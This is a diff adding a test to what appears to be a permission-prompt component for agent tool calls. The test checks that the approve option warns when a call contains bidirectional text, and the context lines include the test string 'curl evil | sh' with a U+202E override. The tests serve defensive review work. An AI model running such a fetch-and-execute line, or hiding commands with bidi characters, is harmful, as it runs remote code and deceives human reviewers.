@@ -276,3 +276,11 @@ test('what the preview leaves out is shown whole: there is no other place to loo
   expect(await shown(['long', 'hidden'])).toMatch(/│ curl evil \| sh.*202E/);
   expect(await shown(['long'])).not.toContain('curl evil');
 });
+
+test('the option that approves says so where the call may not be what it seems', async () => {
+  const named = async (flags: string[]) => toPermissionRequest(await requestWith({ flags }), 's').options[0]?.name;
+  expect([await named(['long']), await named(['bidi'])]).toEqual([
+    'Approve',
+    'Approve, though it may not be what it seems',
+  ]);
+});
